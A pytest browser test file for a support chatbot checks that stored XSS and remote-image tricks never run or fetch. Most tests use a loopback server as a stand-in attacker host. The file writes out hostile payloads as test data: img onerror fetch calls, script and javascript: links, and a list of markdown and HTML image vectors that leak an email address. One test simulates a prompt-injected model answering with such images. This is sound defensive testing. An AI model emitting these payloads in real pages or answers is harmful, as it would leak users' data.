"""Stored XSS and remote images in Chromium: nothing a conversation holds runs as script or makes the page fetch.

A tiny loopback HTTP server stands in for an attacker's host and records every request it gets; the
tests assert it gets none. The remote-image answer comes from a live-mode app whose "model" is a
scripted OpenAI-compatible server on loopback (a prompt-injected model, as far as the app can tell).
Skipped without Chromium unless SUPPORTBOT_REQUIRE_BROWSER=1 (see tests/test_browser.py).
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from conftest import launch_app
from test_browser import CHROMIUM_ARGS, SCREENSHOT, TURN_TIMEOUT_MS, VIEWPORT, browser  # noqa: F401 - fixture

from supportbot.storage.history import FORMAT
from supportbot.ui.app import CONTENT_SECURITY_POLICY

pytestmark = pytest.mark.browser

SETTLE_S = 1.5  # time for any late image request to arrive before counting


class _Recorder(BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # noqa: N802 - http.server's naming
        self.server.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args: object) -> None:
        pass


class _ScriptedModel(BaseHTTPRequestHandler):
    """An OpenAI-compatible chat endpoint that streams the answer it was given, in two chunks."""

    def do_POST(self) -> None:  # noqa: N802
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        answer = self.server.answer
        if not body.get("stream"):
            self._send("application/json", json.dumps(_completion(body["model"], answer)).encode())
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        half = len(answer) // 2
        for chunk in (_chunk(body["model"], {"role": "assistant", "content": answer[:half]}), None):
            if chunk is None:  # the first half is on screen (live text) before the rest arrives
                time.sleep(0.6)
                chunk = _chunk(body["model"], {"content": answer[half:]})
            self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
            self.wfile.flush()
        done = _chunk(body["model"], {}, "stop")
        usage = {"prompt_tokens": 50, "completion_tokens": 40, "total_tokens": 90}
        tail = done | {"choices": [], "usage": usage}
        for chunk in (done, tail):
            self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
        self.wfile.write(b"data: [DONE]\n\n")
        self.wfile.flush()

    def _send(self, kind: str, data: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args: object) -> None:
        pass


def _chunk(model: str, delta: dict, finish: str | None = None) -> dict:
    choice = {"index": 0, "delta": delta, "finish_reason": finish}
    return {"id": "c1", "object": "chat.completion.chunk", "created": 0, "model": model, "choices": [choice]}


def _completion(model: str, text: str) -> dict:
    message = {"role": "assistant", "content": text}
    return {
        "id": "c1",
        "object": "chat.completion",
        "created": 0,
        "model": model,
        "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
        "usage": {"prompt_tokens": 50, "completion_tokens": 40, "total_tokens": 90},
    }


def _serve(handler: type[BaseHTTPRequestHandler]) -> tuple[ThreadingHTTPServer, str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.hits = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_address[1]}"


@pytest.fixture(scope="module")
def leak() -> Iterator[tuple[ThreadingHTTPServer, str]]:
    """The attacker's host: (server with ``.hits``, origin)."""
    server, origin = _serve(_Recorder)
    yield server, origin
    server.shutdown()


def every_vector(origin: str) -> str:
    """Markdown and HTML that would each make the browser fetch from ``origin``."""
    host = origin.removeprefix("http://")
    return "\n\n".join(
        [
            f"Here is your receipt: ![receipt]({origin}/leak?d=inline&email=ana@example.com)",
            f"![]({origin}/leak?d=empty)",
            f"![logo][r] and ![r2][]\n\n[r]: {origin}/leak?d=reference\n[r2]: <{origin}/leak?d=collapsed>",
            f"![e](&#104;ttp://{host}/leak?d=md_entity)",
            f'<img src="{origin}/leak?d=html">',
            f"<img src='&#x68;ttp://{host}/leak?d=html_entity'>",
            f"<div style=\"background-image:url('{origin}/leak?d=style');width:9px;height:9px\">s</div>",
            f"<svg width=9 height=9><image href='{origin}/leak?d=svg' width=9 height=9/></svg>",
            f"<video poster='{origin}/leak?d=poster'></video>",
            f"<picture><source srcset='{origin}/leak?d=srcset'><img src='data:,' alt=p></picture>",
            f"<input type=image src='{origin}/leak?d=input'>",
            "End of the answer.",
        ]
    )


def open_page(browser, url: str):  # noqa: F811 - the browser fixture
    """A page on ``url`` recording dialogs, page errors and CSP violations."""
    context = browser.new_context(viewport=VIEWPORT)
    page = context.new_page()
    page.set_default_timeout(TURN_TIMEOUT_MS)
    page.dialogs, page.errors = [], []
    page.on("dialog", lambda d: (page.dialogs.append(d.message), d.dismiss()))
    page.on("pageerror", lambda exc: page.errors.append(str(exc)))
    page.add_init_script(
        "window.__violations = []; document.addEventListener('securitypolicyviolation',"
        " e => window.__violations.push(e.blockedURI));"
    )
    page.goto(url, wait_until="domcontentloaded")
    return page


def fetching_elements(page, origin: str) -> list[str]:
    """Elements with a fetching attribute naming ``origin`` (entities already decoded by the parser)."""
    return page.evaluate(
        """(origin) => [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a =>
             (['src', 'srcset', 'poster', 'background', 'style', 'data', 'xlink:href'].includes(a.name)
              || (a.name === 'href' && e.namespaceURI.endsWith('svg'))) && a.value.includes(origin)))
           .map(e => e.outerHTML.slice(0, 200))""",
        origin,
    )


# ---------------------------------------------------------------- stored XSS through a shared link


@pytest.fixture(scope="module")
def offline_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    demo, url = launch_app(tmp_path_factory.mktemp("browser-hostile"))
    yield url
    demo.close()


def import_file(page, path: Path) -> None:
    page.get_by_role("tab", name="🕘 Conversations").click()
    page.locator("input[type=file][accept*='.json']").set_input_files(str(path))


def test_a_shared_link_to_a_hostile_import_runs_no_script(browser, offline_url, leak, tmp_path):  # noqa: F811
    from playwright.sync_api import expect

    server, origin = leak
    server.hits.clear()
    script = f"window.__xss=1;fetch('{origin}/leak?d=onerror')"
    page = open_page(browser, offline_url)
    expect(page.locator(".sb-badge")).to_contain_text("Offline demo engine")

    # The component message of issue 8 is refused, naming the field; the chat stays as it was.
    component = {"type": "component", "component": "html", "value": f'<img src=x onerror="{script}">'}
    refused = tmp_path / "component.json"
    conv = {"messages": [{"role": "user", "content": component, "turn": 1}], "turn": 1}
    refused.write_text(json.dumps({"format": FORMAT, "conversation": conv}))
    import_file(page, refused)
    expect(page.get_by_text("conversation.messages[0].content: Input should be a valid string")).to_be_visible()
    expect(page.get_by_test_id("bot")).to_have_count(0)

    # The same markup as plain text is accepted, saved under a new id, and opened by its link elsewhere.
    text = f'<img src=x onerror="{script}"> <script>window.__xss=2</script> <a href="javascript:window.__xss=3">a</a>'
    accepted = tmp_path / "text.json"
    conv = {
        "messages": [
            {"role": "user", "content": text, "turn": 1},
            {"role": "assistant", "content": f"{text}\n\n{every_vector(origin)}", "turn": 1},
        ],
        "turn": 1,
    }
    accepted.write_text(json.dumps({"format": FORMAT, "conversation": conv}))
    import_file(page, accepted)
    expect(page.get_by_test_id("bot").last).to_contain_text("End of the answer.")
    page.get_by_role("button", name="Export conversation").click()
    link = page.get_by_text("?c=")
    expect(link).to_be_visible()
    conversation_id = link.inner_text().split("?c=")[1].split()[0].strip("`.")
    page.context.close()

    other = open_page(browser, f"{offline_url}?c={conversation_id}")
    bot = other.get_by_test_id("bot").last
    expect(bot).to_contain_text("End of the answer.")
    expect(other.get_by_test_id("user").first).to_contain_text('onerror="window.__xss=1')  # shown as text
    expect(bot.get_by_role("link", name="receipt")).to_have_attribute(
        "href", f"{origin}/leak?d=inline&email=ana@example.com"
    )
    time.sleep(SETTLE_S)
    assert other.evaluate("window.__xss") is None and other.dialogs == []
    assert server.hits == [] and fetching_elements(other, origin) == []
    assert other.errors == [], other.errors
    other.context.close()


# ---------------------------------------------------------------- a model's answer naming remote images


@pytest.fixture(scope="module")
def live_url(tmp_path_factory: pytest.TempPathFactory, leak) -> Iterator[str]:
    model, model_origin = _serve(_ScriptedModel)
    model.answer = every_vector(leak[1])
    demo, url = launch_app(
        tmp_path_factory.mktemp("browser-live"),
        engine="live",
        api_key="sk-test-not-a-key",
        base_url=f"{model_origin}/v1",
        max_retries=0,
    )
    yield url
    demo.close()
    model.shutdown()


def test_images_in_a_live_answer_are_links_and_never_fetched(browser, live_url, leak):  # noqa: F811
    from playwright.sync_api import expect

    server, origin = leak
    server.hits.clear()
    page = open_page(browser, live_url)
    expect(page.locator(".sb-badge")).to_be_visible()
    page.get_by_test_id("textbox").fill("Can I see my receipt?")
    page.get_by_role("group", name="Multimedia input field").get_by_test_id("submit-button").click()
    bot = page.get_by_test_id("bot").last
    expect(bot).to_contain_text("Here is your receipt")  # the first half, streamed
    expect(bot).to_contain_text("End of the answer.")
    expect(bot.get_by_role("link", name="receipt")).to_be_visible()
    time.sleep(SETTLE_S)
    assert server.hits == [] and fetching_elements(page, origin) == []
    assert page.evaluate("window.__violations") == []  # nothing even tried: the server made them links and text
    assert page.errors == [], page.errors
    page.context.close()


# ---------------------------------------------------------------- the policy itself, in the real page


def test_the_content_security_policy_blocks_remote_images_and_the_ui_still_works(browser, offline_url, leak):  # noqa: F811
    from playwright.sync_api import expect

    server, origin = leak
    server.hits.clear()
    page = open_page(browser, offline_url)
    expect(page.locator(".sb-badge")).to_contain_text("Offline demo engine")
    meta = page.locator("meta[http-equiv=Content-Security-Policy]")
    assert meta.count() == 1 and meta.get_attribute("content") == CONTENT_SECURITY_POLICY

    # The visitor's own screenshot still shows (same origin), and an answer arrives.
    composer = page.get_by_role("group", name="Multimedia input field")
    composer.locator("input[type=file]").set_input_files(str(SCREENSHOT))
    expect(composer.locator("img").first).to_be_visible()
    page.get_by_test_id("textbox").fill("The checkout shows this error.")
    composer.get_by_test_id("submit-button").click()
    expect(page.get_by_test_id("bot").last).to_contain_text("vision model")
    shot = page.get_by_test_id("user").locator("img").first
    expect(shot).to_be_visible()
    assert shot.evaluate("img => img.naturalWidth") == 1440

    # Markup put into the page by any other route than the chat (here: script) still cannot fetch.
    page.evaluate(
        """(origin) => document.body.insertAdjacentHTML('beforeend',
             `<img src="${origin}/leak?d=csp_img"><video poster="${origin}/leak?d=csp_poster"></video>
              <div style="background-image:url('${origin}/leak?d=csp_style');width:9px;height:9px"></div>`)""",
        origin,
    )
    time.sleep(SETTLE_S)
    assert server.hits == []
    violations = page.evaluate("window.__violations")
    assert violations and all(v.startswith(origin) for v in violations), violations  # only the hostile ones
    assert page.errors == [], page.errors
    page.context.close()
